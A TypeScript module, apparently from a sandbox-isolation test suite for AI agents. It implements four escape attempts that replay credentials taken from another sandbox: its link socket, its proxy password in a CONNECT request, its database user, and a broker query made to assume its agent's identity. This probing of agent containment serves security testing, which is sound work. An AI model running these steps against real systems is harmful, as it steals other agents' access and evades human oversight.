import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Escape, Surroundings } from '../escape.ts'
import { databaseWith, loot } from '../loot.ts'
import { run, speak, speakTo } from '../tools.ts'

/** The sockets that its mounts name. */
function mounted({ notes }: Surroundings): string[] {
  const mounts = readFileSync(join(notes, 'mounts'), 'utf8')
  return [...mounts.matchAll(/ (\/\S+\.sock)(?:\/\/deleted)? /g)].map(([, path = '']) => path)
}

/** What another process does with what was taken out of a sandbox while that runs. */
export const replay: readonly Escape[] = [
  {
    name: "use another sandbox's link, by its socket or its port",
    gain: "its agent's identity, from outside or from another sandbox",
    plain: false,
    proof: 'claim',
    attempt: async (s) => {
      const link = mounted(s).filter((path) => path.includes('link'))
      const said = await Promise.allSettled(link.map(speakTo))
      const open = said.find(({ status }) => status === 'fulfilled')
      if (open) return 'connected'
      if (process.env.JIT_SANDBOX !== undefined) return undefined
      const env = { PATH: process.env.PATH, JIT_SANDBOX: loot(s).JIT_SANDBOX }
      const { code, output } = await run(s.jit[0], [s.jit[1], 'whoami'], { env })
      if (code !== 0) throw new Error(output.trim().split('\n')[0])
      return output
    },
  },
  {
    name: "use another sandbox's way out, with its password",
    gain: 'domains of another sandbox',
    plain: false,
    proof: 'claim',
    attempt: async (s) => {
      const { username, password } = new URL(loot(s).HTTP_PROXY ?? '')
      const login = Buffer.from(`${username}:${password}`).toString('base64')
      const answer = await speak({
        port: 3128,
        say: `CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\nProxy-Authorization: Basic ${login}\r\n\r\n`,
      })
      if (/^HTTP\/1\.[01] 407/.test(answer) || answer === '')
        throw new Error(answer.split('\r\n')[0])
      return answer
    },
  },
  {
    name: "use another sandbox's database port, with its user",
    gain: 'the database, without a grant of its own',
    plain: false,
    needs: ['psql'],
    proof: 'claim',
    attempt: (s) => databaseWith(loot(s)),
  },
  {
    name: "ask the broker with what another sandbox's environment holds",
    gain: "its agent's identity",
    plain: false,
    proof: 'claim',
    attempt: async (s) => {
      const { JIT_SANDBOX: _, ...taken } = loot(s)
      const env = { ...taken, PATH: process.env.PATH, HOME: s.notes, JIT_BROKER: s.broker }
      const { code, output } = await run(s.jit[0], [s.jit[1], 'whoami'], { env })
      if (code !== 0) throw new Error(output.trim().split('\n')[0])
      return output
    },
  },
]
